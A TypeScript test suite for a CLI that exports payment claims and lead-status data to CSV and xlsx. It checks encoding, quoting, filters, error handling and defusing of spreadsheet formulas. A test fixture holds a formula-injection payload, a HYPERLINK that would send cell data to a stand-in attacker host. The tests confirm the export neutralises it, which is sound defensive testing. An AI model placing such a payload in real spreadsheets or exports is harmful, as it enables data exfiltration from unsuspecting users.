// cabinet-leads export claims|limbo as finance runs it: a real process, the bytes of the
// CSV it writes (BOM, delimiter, quoting, defused formulas) and the cells of the xlsx read
// back with exceljs, on claims made by a real pipeline run.
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import test, { type ExecutionContext } from 'ava';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { errorLine, runCli } from '../helpers/cli.js';
import { createTestDb, type TestDb } from '../helpers/db.js';
import { runPipeline } from '../helpers/pipeline.js';
import { addDays, addTrips, businessToday, insertDriver, insertLead } from '../helpers/rows.js';

const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"ver detalle")';

interface World {
  db: TestDb;
  today: string;
  /** lead dates of the three leads */
  dates: { a: string; b: string; c: string };
}

let world: World;

/**
 * Three leads matched by phone by a real pipeline run: A (a formula as its first name, 6
 * trips: M1 and M5, M1 then paid), B (key "=1+2", 1 trip: M1), C (no driver: NO_IDENTITY).
 */
test.before(async () => {
  const db = await createTestDb('export');
  const today = await businessToday(db);
  const dates = { a: addDays(today, -20), b: addDays(today, -10), c: addDays(today, -3) };
  await insertLead(db, { external_id: 'EXP-A', lead_created_at: `${dates.a} 09:15`, first_name: HOSTILE_NAME, last_name: 'Muñoz', park_phone: '977000001' });
  await insertLead(db, { external_id: '=1+2', lead_created_at: `${dates.b} 18:40`, first_name: 'Ñandú', last_name: 'Pérez; "Ñato"', park_phone: '977000002' });
  await insertLead(db, { external_id: 'EXP-C', lead_created_at: `${dates.c} 07:00`, first_name: '@SUM(A1:A9)', last_name: '-Ríos', park_phone: '977000003' });
  await insertDriver(db, { driver_id: 'drv-a', phone: '51977000001', first_name: HOSTILE_NAME, last_name: 'Muñoz', hire_date: dates.a });
  await insertDriver(db, { driver_id: 'drv-b', phone: '51977000002', first_name: 'Ñandú', last_name: 'Pérez; "Ñato"', hire_date: dates.b });
  await addTrips(db, 'drv-a', [{ dateFile: dates.a, trips: 6 }]);
  await addTrips(db, 'drv-b', [{ dateFile: dates.b, trips: 1 }]);
  const run = await runPipeline(db);
  if (run.status !== 'COMPLETED') throw new Error(`pipeline run ${run.status}: ${run.error_message}`);
  await db.query(`UPDATE canon.claims_yango_cabinet_14d SET status = 'paid', paid_at = now() WHERE lead_source_pk = 'EXP-A' AND milestone = 1`);
  world = { db, today, dates };
});
test.after.always(() => world?.db.drop());

function outDir(t: ExecutionContext): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'export-'));
  t.teardown(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

function exportCli(args: string[], env: NodeJS.ProcessEnv = {}, db: TestDb = world.db) {
  return runCli(['export', ...args], { DATABASE_URL: db.url, LOG_LEVEL: 'warn', ...env });
}

function csvRows(bytes: Buffer, delimiter = ';'): Record<string, string>[] {
  return parse(bytes, { bom: true, columns: true, delimiter, record_delimiter: '\r\n' }) as Record<string, string>[];
}

test('export claims writes a CSV Excel opens right: BOM, ";", CRLF, quoted text, decimal comma, formulas defused', async (t) => {
  const file = path.join(outDir(t), 'claims.csv');
  const r = await exportCli(['claims', '--out', file]);
  t.is(r.code, 0, r.stderr);
  t.regex(r.stdout, /^wrote .*claims\.csv: 3 claims, csv \(\d+ kB, times in America\/Lima, \d+ ms\)\n$/);
  const bytes = readFileSync(file);
  t.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 BOM');
  const text = bytes.toString('utf8');
  t.true(text.endsWith('\r\n') && !/[^\r]\n/.test(text), 'every line ends with CRLF');
  const lines = text.slice(1).split('\r\n');
  t.is(lines[0], 'lead_source_pk;lead_date;week_start;milestone;amount_expected;currency;status;lead_name;park_phone;asset_plate_number;driver_id;person_key;generated_at;paid_at;run_id');
  // the formula in a name and in a key: a leading ', quotes doubled, the whole field quoted
  t.true(lines[1]!.startsWith(`"EXP-A";${world.dates.a};`), lines[1]);
  t.true(lines[1]!.includes(`;1;25,00;"PEN";"paid";"'=HYPERLINK(""http://evil.example/?d=""&A1,""ver detalle"") Muñoz";"977000001";;"drv-a";`), lines[1]);
  t.true(lines[3]!.startsWith(`"'=1+2";${world.dates.b};`), lines[3]);
  t.true(lines[3]!.includes(`;"Ñandú Pérez; ""Ñato""";`), lines[3]);

  const rows = csvRows(bytes);
  t.deepEqual(rows.map((x) => [x.lead_source_pk, x.milestone, x.amount_expected, x.status, x.driver_id]), [
    ['EXP-A', '1', '25,00', 'paid', 'drv-a'],
    ['EXP-A', '5', '35,00', 'generated', 'drv-a'],
    ["'=1+2", '1', '25,00', 'generated', 'drv-b'],
  ]);
  // times are the business zone's wall clock, as SQL computes it
  const [g] = await world.db.query<{ generated_at: string; paid_at: string }>(
    `SELECT to_char(generated_at AT TIME ZONE 'America/Lima', 'YYYY-MM-DD HH24:MI:SS') AS generated_at,
            to_char(paid_at AT TIME ZONE 'America/Lima', 'YYYY-MM-DD HH24:MI:SS') AS paid_at
     FROM canon.claims_yango_cabinet_14d WHERE lead_source_pk = 'EXP-A' AND milestone = 1`,
  );
  t.like(rows[0], { generated_at: g!.generated_at, paid_at: g!.paid_at });
  t.regex(rows[0]!.generated_at!, /^\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}$/);
  t.is(rows[1]!.paid_at, '');
});

test('export claims to an .xlsx: amounts are numbers in S/, dates are dates, a formula is a text cell', async (t) => {
  const file = path.join(outDir(t), 'claims.xlsx');
  const r = await exportCli(['claims', '--out', file], { TZ: 'Asia/Tokyo' });
  t.is(r.code, 0, r.stderr);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  t.deepEqual(wb.worksheets.map((w) => w.name), ['claims']);
  const ws = wb.worksheets[0]!;
  t.is(ws.rowCount, 4);
  const header = (ws.getRow(1).values as unknown[]).slice(1);
  const cell = (row: number, name: string) => ws.getRow(row).getCell(header.indexOf(name) + 1);
  t.like(ws.views[0], { state: 'frozen', ySplit: 1 });

  const amount = cell(2, 'amount_expected');
  t.is(amount.type, ExcelJS.ValueType.Number);
  t.is(amount.value, 25);
  t.is(amount.numFmt, '"S/" #,##0.00');
  t.is(cell(3, 'amount_expected').value, 35);
  t.is(cell(2, 'milestone').value, 1);

  const leadDate = cell(2, 'lead_date');
  t.is(leadDate.type, ExcelJS.ValueType.Date);
  t.deepEqual(leadDate.value, new Date(`${world.dates.a}T00:00:00Z`));
  t.is(leadDate.numFmt, 'dd/mm/yyyy');
  const [g] = await world.db.query<{ generated_at: string }>(
    `SELECT to_char(generated_at AT TIME ZONE 'America/Lima', 'YYYY-MM-DD"T"HH24:MI:SS"Z"') AS generated_at
     FROM canon.claims_yango_cabinet_14d WHERE lead_source_pk = 'EXP-A' AND milestone = 1`,
  );
  t.is(cell(2, 'generated_at').type, ExcelJS.ValueType.Date);
  t.deepEqual(cell(2, 'generated_at').value, new Date(g!.generated_at), 'the business zone\'s wall clock, not the machine\'s (TZ=Asia/Tokyo)');

  const name = cell(2, 'lead_name');
  t.is(name.type, ExcelJS.ValueType.String, 'a text cell, not a formula');
  t.is(name.value, `${HOSTILE_NAME} Muñoz`, 'the exact text');
  t.is(cell(4, 'lead_source_pk').value, '=1+2');
  t.is(cell(4, 'lead_source_pk').type, ExcelJS.ValueType.String);
  t.is(cell(3, 'paid_at').value, null);
});

test('--from/--to on the lead date and --status filter the claims', async (t) => {
  const dir = outDir(t);
  const cases: [string[], string[]][] = [
    [['--from', world.dates.b], ['=1+2/1']],
    [['--to', addDays(world.dates.b, -1)], ['EXP-A/1', 'EXP-A/5']],
    [['--from', world.dates.a, '--to', world.dates.a, '--status', 'GENERATED'], ['EXP-A/5']],
    [['--status', 'paid,expired'], ['EXP-A/1']],
    [['--from', world.today], []],
  ];
  for (const [i, [args, expected]] of cases.entries()) {
    const file = path.join(dir, `c${i}.xlsx`);
    const r = await exportCli(['claims', '--out', file, ...args]);
    t.is(r.code, 0, r.stderr);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(file);
    const ws = wb.worksheets[0]!;
    const got: string[] = [];
    ws.eachRow((row, n) => {
      if (n > 1) got.push(`${String(row.getCell(1).value)}/${String(row.getCell(4).value)}`);
    });
    t.deepEqual(got, expected, args.join(' '));
    t.is(String(ws.getRow(1).getCell(1).value), 'lead_source_pk', 'the header even with no rows');
  }
});

test('export limbo: one row per lead, --stage, --delimiter "," with a decimal point; stdout gives the same bytes', async (t) => {
  const dir = outDir(t);
  const file = path.join(dir, 'limbo.csv');
  const r = await exportCli(['limbo', '--out', file, '--delimiter', ',']);
  t.is(r.code, 0, r.stderr);
  t.regex(r.stdout, /: 3 leads, csv /);
  const bytes = readFileSync(file);
  const rows = csvRows(bytes, ',');
  t.deepEqual(rows.map((x) => [x.lead_source_pk, x.lead_name, x.limbo_stage, x.trips_14d, x.expected_amount_14d, x.reached_m5_14d]), [
    ['EXP-A', `'${HOSTILE_NAME} Muñoz`, 'OK', '6', '60.00', 'true'],
    ["'=1+2", 'Ñandú Pérez; "Ñato"', 'OK', '1', '25.00', 'false'],
    ['EXP-C', "'@SUM(A1:A9) -Ríos", 'NO_IDENTITY', '0', '0.00', 'false'],
  ]);
  t.regex(rows[2]!.limbo_reason_detail!, /^Lead EXP-C has no identity/);

  const stdout = await runCli(['export', 'limbo', '--delimiter', ','], { DATABASE_URL: world.db.url, LOG_LEVEL: 'warn' });
  t.is(stdout.code, 0, stdout.stderr);
  t.is(stdout.stdout, bytes.toString('utf8'), 'stdout holds exactly what --out writes');

  const stage = await exportCli(['limbo', '--stage', 'no_identity,TRIPS_NO_CLAIM', '--format', 'xlsx', '--out', path.join(dir, 'stage.xlsx')]);
  t.is(stage.code, 0, stage.stderr);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path.join(dir, 'stage.xlsx'));
  const ws = wb.worksheets[0]!;
  t.is(ws.rowCount, 2);
  t.is(ws.getRow(2).getCell(2).value, 'EXP-C');
  t.is(ws.getRow(2).getCell(5).value, '@SUM(A1:A9) -Ríos');
  t.is(ws.getRow(2).getCell(15).value, false, 'reached_m1_14d is a boolean cell');
});

test('bad requests exit 2 with a one-line message and leave no file', async (t) => {
  const dir = outDir(t);
  const csv = path.join(dir, 'x.csv');
  const xlsx = path.join(dir, 'x.xlsx');
  for (const [args, pattern] of [
    [['payments', '--out', csv], /export: expected what to export, claims or limbo, got "payments"/],
    [[], /export: expected what to export, claims or limbo, got nothing/],
    [['claims', '--out', csv, '--stage', 'OK'], /export claims: --stage applies to export limbo; filter claims with --status/],
    [['limbo', '--out', csv, '--status', 'paid'], /export limbo: --status applies to export claims; filter leads with --stage/],
    [['claims', '--out', csv, '--status', 'paid,lost'], /export claims: invalid --status "paid,lost": expected one or more of expected, generated, paid, rejected, expired/],
    [['claims', '--out', csv, '--from', '31/02/2026'], /export claims: invalid --from "31\/02\/2026": 2026-02 has no day 31/],
    [['claims', '--out', csv, '--from', '2026-11-20', '--to', '2026-11-01'], /export claims: --from 2026-11-20 is after --to 2026-11-01/],
    [['claims', '--out', csv, '--format', 'ods'], /export claims: invalid --format "ods": expected csv or xlsx/],
    [['claims', '--out', csv, '--format', 'xlsx'], /--format xlsx does not match --out .*x\.csv: name the file \.xlsx, or leave --format out/],
    [['claims', '--out', xlsx, '--delimiter', ','], /--delimiter and --decimal apply to CSV/],
    [['claims', '--out', csv, '--decimal', ';'], /invalid --decimal ";": expected "," or "."/],
    [['claims', '--out', csv, '--delimiter', '"'], /invalid --delimiter/],
  ] as const) {
    const r = await exportCli([...args]);
    t.is(r.code, 2, `${args.join(' ')}: ${r.stderr}`);
    t.regex(errorLine(r), pattern);
  }
  t.deepEqual(readdirSync(dir), [], 'no file, no temporary file');
});

test('a database error on the way exits 1 and leaves no file, nor its temporary file', async (t) => {
  const db = await createTestDb('export_fail');
  t.teardown(() => db.drop());
  await db.query(`DROP VIEW ops.v_cabinet_claims`);
  const dir = outDir(t);
  const file = path.join(dir, 'claims.xlsx');
  const r = await exportCli(['claims', '--out', file], {}, db);
  t.is(r.code, 1, r.stderr);
  t.regex(errorLine(r), /relation "ops\.v_cabinet_claims" does not exist/);
  t.false(existsSync(file));
  t.deepEqual(readdirSync(dir), []);
});

test('rows stream through a cursor: 100,000 claims export with a 48 MB heap, CSV and xlsx', async (t) => {
  const db = await createTestDb('export_big');
  t.teardown(() => db.drop());
  await db.query(
    `INSERT INTO canon.claims_yango_cabinet_14d (lead_source_pk, milestone, lead_date, amount_expected, status, generated_at)
     SELECT 'bulk-' || lpad(g::text, 6, '0'), 1, DATE '2026-01-01' + (g % 60), 25.5, 'generated', now()
     FROM generate_series(1, 100000) g`,
  );
  const dir = outDir(t);
  for (const format of ['csv', 'xlsx']) {
    const file = path.join(dir, `big.${format}`);
    // (the rows of one query held in memory need several times this heap: the process would abort)
    const r = await exportCli(['claims', '--out', file], { NODE_OPTIONS: '--max-old-space-size=48' }, db);
    t.is(r.code, 0, `${format}: ${r.stderr}`);
    t.regex(r.stdout, /: 100000 claims, /);
  }
  const rows = csvRows(readFileSync(path.join(dir, 'big.csv')));
  t.is(rows.length, 100000);
  t.like(rows[0], { lead_source_pk: 'bulk-000060', amount_expected: '25,50', lead_date: '2026-01-01' });
});
